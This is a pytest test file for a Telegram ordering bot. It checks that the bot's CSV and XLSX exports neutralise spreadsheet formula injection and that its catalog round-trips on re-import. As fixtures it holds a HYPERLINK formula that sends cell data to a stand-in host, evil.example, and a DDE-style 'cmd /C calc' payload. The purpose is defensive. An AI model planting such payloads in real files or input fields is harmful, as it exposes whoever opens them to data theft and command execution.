"""Formula injection (OWASP "CSV injection"): a Telegram first name, a product or a producer's
name starting with ``=``, ``+``, ``-``, ``@`` must never become a live formula in a file the
product writes: the admin's CSV and XLSX, the producers' purchase-order CSV, the catalog export.
Numbers stay numbers; the catalog export imports back to the same names."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from bot.cli import main
from handlers.cycle_run import dispatch_close
from models.cells import read_cell, spreadsheet_cell
from models.closing import close_cycle
from models.ordering import confirm_order, set_quantity
from models.outbox import Kind, cycle_topic, sent_count
from tests.conftest import ADMIN_TELEGRAM_ID
from tests.factories import make_member, make_network

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Payé")'
PRODUCT = "@SUM(1+1)*cmd|' /C calc'!A0"
PRODUCER = "+33 Ferme"
POINT = "-2+3 Halle"
UNIT = "\tsac"
HOSTILE = (NAME, PRODUCT, PRODUCER, POINT)
FARMER = 720_002


def test_the_cell_rule():
    for text in ("=1+1", "+A1", "-1+1", "@x", "\tx", "\rx", "'=x", "'x"):
        assert spreadsheet_cell(text) == "'" + text
        assert read_cell(spreadsheet_cell(text)) == text
    for value in ("Alice", "", "-3,50", "-3.5", "+2", "-1 234,5", -3, Decimal("-2.5"), 4.8):
        assert spreadsheet_cell(value) == value
    assert read_cell("'x") == "'x"  # typed by a person: not one the product added


@pytest.fixture
async def hostile_orders(app, session, clock):
    network = await make_network(session, clock())
    network["producer"].name = PRODUCER
    network["central"].name = POINT
    tomatoes = network["products"]["TOM-ANC"]
    tomatoes.name = PRODUCT
    tomatoes.sale_unit = UNIT
    await session.commit()
    buyer = await make_member(session, 720_001, pickup=network["central"], name=NAME)
    farmer = await make_member(session, FARMER, name="Marie")
    farmer.producer_id = network["producer"].id
    await session.commit()
    cycle = network["cycle"]
    await set_quantity(session, buyer, cycle.id, tomatoes.id, Decimal("1.5"), clock())
    await confirm_order(session, buyer, cycle.id, clock())
    await session.commit()
    return cycle


def _assert_neutralised(cells: list[str]) -> None:
    for text in HOSTILE:
        assert "'" + text in cells, (text, cells)
    assert not any(c.startswith(("=", "+", "@", "\t")) for c in cells), cells


async def test_admin_exports_neutralise_formulas(hostile_orders, sandbox):
    admin = sandbox.user("Admin", language="fr", user_id=ADMIN_TELEGRAM_ID)
    await admin.send("/exporter")
    menu = admin.last_message
    await admin.press("XLSX", message=menu)
    workbook = load_workbook(io.BytesIO(admin.last_message.document.content))
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    _assert_neutralised([c.value for c in cells if isinstance(c.value, str)])
    line = next(workbook.worksheets[0].iter_rows(min_row=2, values_only=True))
    assert line[4:8] == (1.5, "'" + UNIT, 4.8, 7.2)  # numbers stay numbers

    await admin.press("CSV", message=menu)
    text = admin.last_message.document.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    _assert_neutralised([c for row in rows for c in row])
    assert rows[1][4:8] == ["1,5", "'" + UNIT, "4,80", "7,20"]


async def test_purchase_order_csv_neutralises_formulas(
    app, hostile_orders, sandbox, session, clock
):
    await close_cycle(session, hostile_orders.id, clock())
    farmer = sandbox.user("Marie", language="fr", user_id=FARMER)
    await dispatch_close(app, hostile_orders.id)
    assert await sent_count(session, cycle_topic(hostile_orders.id), Kind.PURCHASE_ORDER) == 1
    text = farmer.last_message.document.content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    assert {"'" + PRODUCT, "'" + POINT, "'" + UNIT, "1,5", "7,20"} <= set(cells)
    assert not any(c.startswith(("=", "+", "@", "\t")) for c in cells), cells


def test_catalog_export_neutralises_and_imports_back(monkeypatch, tmp_path, capsys):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'cli.sqlite3'}")
    monkeypatch.setenv("DEFAULT_LOCALE", "fr")
    (tmp_path / "producers.csv").write_text(
        "slug,name,town,description,distance_km\nferme,=Ferme,Lusignan,,10\n", encoding="utf-8"
    )
    names = ["=SUM(A1)", "+Tomates", "-Radis", "@Miel", "'Quote", "''=Deux"]
    lines = ["producer,sku,name,category,sale_unit,unit_amount,unit_measure,price,labels,aliases"]
    for n, name in enumerate(names):
        field = '"' + name.replace('"', '""') + '"'
        lines.append(f'ferme,SKU-{n},{field},=Légumes,kg,1,kg,"3,20",,=alias;b')
    (tmp_path / "catalog.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert main(["import-producers", "producers.csv"]) == 0
    assert main(["import-catalog", "catalog.csv"]) == 0
    assert main(["export-catalog", "-o", "first.csv"]) == 0
    exported = list(csv.reader(io.StringIO((tmp_path / "first.csv").read_text("utf-8"))))
    cells = [c for row in exported[1:] for c in row]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
    # A cell typed "''=Deux" is read as "'=Deux" (the export's own quote is taken off).
    stored = ["=SUM(A1)", "+Tomates", "-Radis", "@Miel", "'Quote", "'=Deux"]
    assert sorted(row[2] for row in exported[1:]) == sorted("'" + name for name in stored)
    # Imported again, the export gives back the same names, so the same export.
    assert main(["import-catalog", "first.csv"]) == 0
    assert main(["export-catalog", "-o", "second.csv"]) == 0
    assert (tmp_path / "second.csv").read_text("utf-8") == (tmp_path / "first.csv").read_text(
        "utf-8"
    )
    capsys.readouterr()


async def test_catalog_round_trip_on_the_database(session):
    from models.catalog_csv import write_catalog
    from models.catalog_import import export_catalog, import_catalog, import_producers

    await import_producers(session, "slug,name,town,description,distance_km\nf,F,T,,1\n")
    header = "producer,sku,name,category,sale_unit,unit_amount,unit_measure,price,labels,aliases"
    await import_catalog(session, header + '\nf,A-1,"=1+1",@cat,kg,1,kg,3,,-x;y\n')
    written = io.StringIO()
    write_catalog(await export_catalog(session), written)
    assert "f,A-1,'=1+1,'@cat,kg,1,kg,\"3,00\",,'-x;y" in written.getvalue()
    await import_catalog(session, written.getvalue())
    (row,) = await export_catalog(session)
    assert (row.name, row.category, row.aliases) == ("=1+1", "@cat", ("-x", "y"))
